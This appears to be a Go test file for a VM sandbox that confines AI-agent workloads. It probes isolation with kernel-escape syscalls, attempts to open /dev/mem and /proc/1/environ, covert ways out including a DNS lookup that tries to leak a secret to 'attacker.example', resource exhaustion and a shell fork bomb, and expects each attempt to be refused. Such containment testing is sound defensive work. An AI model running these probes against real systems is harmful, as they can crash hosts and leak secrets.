package main_test

import (
	"fmt"
	"math"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// needVM wants what VMs are made of. make images gets it.
func needVM(t *testing.T) {
	t.Helper()
	if testing.Short() {
		t.Skip("boots VMs; run without -short")
	}
	if _, err := exec.LookPath("qemu-system-x86_64"); err != nil {
		t.Fatal("needs QEMU and an image: make images")
	}
}

// TestVM runs what is tested in namespaces in real VMs as well: the same commands, by the same user.
func TestVM(t *testing.T) {
	needVM(t)
	for name, test := range map[string]func(*testing.T){
		"Mission S3 presets":        TestMissionS3Presets,
		"Attack 1 own channel":      TestAttack1OwnChannel,
		"Attack 6 inspect":          TestAttack6Inspect,
		"Attack 11 disagreement":    TestAttack11Disagreement,
		"Attack 12 dialled address": TestAttack12DialledElsewhere,
		"Attack 15 port and scheme": TestAttack15OtherPortAndScheme,
		"Events one by one":         TestClientEventsArriveOneByOne,
	} {
		t.Run(name, test)
	}
}

// S19: a VM without a network card, whose exit status, output and standard input are the command's own.
func TestVMMissionS19(t *testing.T) {
	needVM(t)
	h := newAgentHouse(t)
	r := h.tornoIn("typed", "run", "--agent", "my-agent", "--trust-config", "--", "sh", "-c",
		`cat; echo; uname -r; id -un; ls /sys/class/net; dmesg >/dev/null 2>&1 || echo no kernel log; echo problem >&2; exit 42`)
	if r.code != 42 || !strings.HasPrefix(r.stdout, "typed\n") || !strings.HasSuffix(r.stdout, "-cloud-amd64\nagent\nlo\nno kernel log\n") || !strings.Contains(r.stderr, "problem") {
		t.Errorf("exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
	if r := h.run("sh", "-c", "kill -TERM $$"); r.code != 143 {
		t.Errorf("a command that TERM ended: exit %d, %q", r.code, r.stderr)
	}
	if r := h.run("no-such-command"); r.code != 127 || !strings.Contains(r.stderr, "hint:") {
		t.Errorf("a command that is not there: exit %d, %q", r.code, r.stderr)
	}
}

// What the workload finds: a small /dev, its working directory read-only, room to write, the right time.
func TestVMWorkloadsView(t *testing.T) {
	needVM(t)
	h := newAgentHouse(t)
	h.write("agent.py", "print('mine')\n")
	began := time.Now()
	r := h.sh(`python3 agent.py; touch x 2>/dev/null || echo read-only
touch ~/x && echo home; df -P / | awk 'NR==2{print ($2 > 15000000)}'
ls /dev | tr '\n' ' '; echo; python3 -c 'import json; s=json.load(open("/run/torno/status")); print(s["agent"], len(s["secrets"]))'
cat /proc/1/status >/dev/null 2>&1 || echo hidden
awk 'NR==FNR{most=$1; next} /MemTotal/{print (most > 1000 && most <= 16384 && most*256 <= $2)}' /sys/fs/cgroup/workload/pids.max /proc/meminfo; date +%s.%N`)
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	want := []string{"mine", "read-only", "home", "1", "fd full fuse null ptmx pts random shm stderr stdin stdout tty urandom zero ", "my-agent 3", "hidden", "1"}
	if len(lines) != len(want)+1 || strings.Join(lines[:len(want)], "\n") != strings.Join(want, "\n") {
		t.Fatalf("stdout %q, stderr %q", r.stdout, r.stderr)
	}
	var seconds float64
	if _, err := fmt.Sscan(lines[len(want)], &seconds); err != nil {
		t.Fatal(err)
	}
	const slack = 500 * time.Millisecond
	if inside := time.UnixMicro(int64(seconds * 1e6)); inside.Before(began.Add(-slack)) || inside.After(time.Now().Add(slack)) {
		t.Errorf("in the VM it was %v, here it was between %v and now", inside, began)
	}
}

// What a workload may not do to its kernel, with a control that it may.
func TestVMAttack6Kernel(t *testing.T) {
	needVM(t)
	h := newAgentHouse(t)
	r := h.python(`import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def call(name, nr, *args):
    r = libc.syscall(nr, *[ctypes.c_long(a) for a in args])
    print(name, "allowed" if r >= 0 else "refused")
call("getpid", 39)
call("io_uring_setup", 425, 1, 0)
call("bpf", 321, 0, 0, 0)
call("userfaultfd", 323, 0)
call("perf_event_open", 298, 0, 0, -1, -1, 0)
call("ptrace", 101, 16, 1, 0, 0)
call("process_vm_readv", 310, 1, 0, 0, 0, 0, 0)
call("pidfd_getfd 1", 438, libc.syscall(434, 1, 0), 0, 0)
call("init_module", 175, 0, 0, 0)
call("finit_module", 313, 0, 0, 0)
call("kexec_load", 246, 0, 0, 0, 0)
call("kexec_file_load", 320, 0, 0, 0, 0, 0)
call("unshare user", 272, 0x10000000)
call("unshare net", 272, 0x40000000)
call("mount", 165, 0, 0, 0, 0, 0)
call("pivot_root", 155, 0, 0)
call("reboot", 169, 0xfee1dead, 672274793, 0x01234567, 0)
call("clock_settime", 227, 0, 0)
call("iopl", 172, 3)
call("kill 1", 62, 1, 0)
call("x32 getpid", 0x40000000 | 39)
call("add_key", 248, 0, 0, 0, 0, 0)
for p in ("/dev/mem", "/dev/vda", "/dev/vsock", "/dev/kmsg", "/proc/kcore", "/proc/1/mem", "/proc/1/environ", "/sys/kernel/debug", "/proc/sys/kernel/core_pattern"):
    try:
        f = os.open(p, os.O_RDWR); print(p, "opened")
    except OSError:
        print(p, "refused")`)
	var wrong []string
	for line := range strings.Lines(r.stdout) {
		if line = strings.TrimSpace(line); !strings.HasSuffix(line, " refused") && line != "getpid allowed" {
			wrong = append(wrong, line)
		}
	}
	if len(wrong) > 0 || strings.Count(r.stdout, "\n") != 31 || !strings.HasPrefix(r.stdout, "getpid allowed\n") {
		t.Errorf("%d lines, wrong: %q (stdout %q, stderr %q)", strings.Count(r.stdout, "\n"), wrong, r.stdout, r.stderr)
	}
}

// Nothing leaves but by the broker: QUIC, DNS to resolvers of one's own, ICMP, UDP, raw sockets, other hosts' ports.
func TestVMAttack25OtherWaysOut(t *testing.T) {
	needVM(t)
	h := newAgentHouse(t)
	r := h.python(`import socket, ssl, time
def refused(name, f):
    began = time.monotonic()
    try:
        f(); print(name, "open")
    except OSError as e:
        print(name, "refused", "slowly" if time.monotonic() - began > 15 else "at once")
def udp(address, family=socket.AF_INET):
    def f():
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(30); s.connect(address)
        s.send(b"\xc0" + bytes(1200)); s.recv(1)
    return f
refused("quic", udp(("93.184.216.34", 443)))
refused("quic v6", udp(("2606:4700::1111", 443), socket.AF_INET6))
refused("ntp", udp(("162.159.200.1", 123)))
refused("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).connect(("8.8.8.8", 0)))
refused("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
refused("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
def dot():
    s = ssl.create_default_context().wrap_socket(socket.create_connection(("1.1.1.1", 853), 30), server_hostname="one.one.one.one")
    s.send(b"\0\x11" + bytes(17) + b"\n"); assert s.recv(12) in (b"", b"HTTP/1.1 400"); raise OSError
refused("dns over tls", dot)
a = socket.getaddrinfo("secret-in-a-label.attacker.example", 443, socket.AF_INET)[0][4][0]
print("label", a.startswith("100."))`)
	want := "quic refused at once\nquic v6 refused at once\nntp refused at once\nping refused at once\nraw refused at once\npacket refused at once\ndns over tls refused at once\nlabel True\n"
	if r.stdout != want {
		t.Errorf("stdout %q, want %q (stderr %q)", r.stdout, want, r.stderr)
	}
}

// Attack 9: what takes all that the VM has takes nothing from others, and is told what it ran into.
func TestVMAttack9Exhaustion(t *testing.T) {
	needVM(t)
	h := newAgentHouse(t)
	r := h.runWith([]string{"--memory", "256M", "--disk", "64M"}, "/usr/bin/python3", "-c", `import os, sys
fds = []
try:
    while True: fds.append(os.open("/dev/null", os.O_RDONLY))
except OSError as e: print("descriptors:", e.strerror)
for f in fds: os.close(f)
try:
    with open(os.path.expanduser("~/full"), "wb") as f:
        while True: f.write(bytes(1 << 20))
except OSError as e: print("disk:", e.strerror)
os.unlink(os.path.expanduser("~/full"))
import urllib.request
print(urllib.request.urlopen("https://files.example.org/hello").read().decode().strip()); sys.stdout.flush()
hog = []
while True: hog.append(b"x" * (60 << 20)) # in large pieces: what is short of memory is slow`)
	if r.code != 137 || r.stdout != "descriptors: Too many open files\ndisk: No space left on device\nok GET /hello\n" || !strings.Contains(r.stderr, "ran out of memory") {
		t.Errorf("exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
	m := h.startMeter()
	quiet := m.quiet(t)
	bomb := h.startRun([]string{"--memory", "256M"}, `bomb() { bomb | bomb & }; echo ready; bomb; cat; sleep 1000`)
	busy := math.Inf(1)
	for range 4 { // a machine that is busy besides is given a second chance, and a third
		if busy = min(busy, m.measure(t, "/hello")); busy <= max(2*quiet, attackNoise) {
			break
		}
	}
	bomb.interrupt()
	m.end(t)
	memory := peakMemory(t, h.serve.Process.Pid)
	t.Logf("another session's 99th percentile: %.1f ms, beside a fork bomb %.1f ms; the broker's memory: %d MiB", quiet, busy, memory>>20)
	if busy > max(2*quiet, attackNoise) || memory > attackMemory {
		t.Errorf("beside a fork bomb another session's 99th percentile went from %.1f to %.1f ms, the broker's memory to %d MiB", quiet, busy, memory>>20)
	}
}

// The real clients, once each.
func TestVMClients(t *testing.T) {
	needVM(t)
	h := newAgentHouse(t)
	dir := clients(t)
	h.write("torno.toml", placeholders)
	claude := filepath.Join(dir, "node/node_modules/@anthropic-ai/claude-code-linux-x64")
	r := h.runWith([]string{"--mount-ro", claude}, "sh", "-c", `cd; curl -sS https://files.example.org/hello
git clone -q https://git.example.org/demo.git && cat demo/README
python3 -c 'import requests; print(requests.get("https://files.example.org/hello").text.strip())'
node -e 'require("https").get("https://files.example.org/hello", r => r.pipe(process.stdout))'
timeout 100 `+claude+`/claude -p "Say hello" --model claude-sonnet-4-20250514 </dev/null`)
	for _, want := range []string{"ok GET /hello\n", "cloned through the hatch", "Hello from behind the hatch."} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("no %q in %q (exit %d, stderr %q)", want, r.stdout, r.code, r.stderr)
		}
	}
	if n := strings.Count(r.stdout, "ok GET /hello\n"); n != 3 {
		t.Errorf("%d of curl, python and node got their answer", n)
	}
	t.Log(r.stdout)
}
